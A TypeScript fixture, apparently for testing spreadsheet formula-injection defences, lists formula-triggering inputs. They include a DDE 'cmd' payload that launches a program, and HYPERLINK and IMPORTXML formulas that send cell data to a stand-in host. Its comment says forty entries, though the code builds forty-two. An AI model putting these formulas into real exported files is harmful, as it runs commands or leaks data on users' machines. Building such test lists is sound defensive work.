/** What a spreadsheet would run, or hand to another program, if a cell began so: forty beginnings. */
const calls = [
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://elsewhere.invalid?x="&A1)',
  'IMPORTXML("http://elsewhere.invalid","//a")',
  '1+1',
];
const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

export const formulas: readonly string[] = [
  ...signs.flatMap((sign) => calls.map((call) => sign + call)),
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '"=1+1',
  '","=1+1',
  "'=1+1",
];
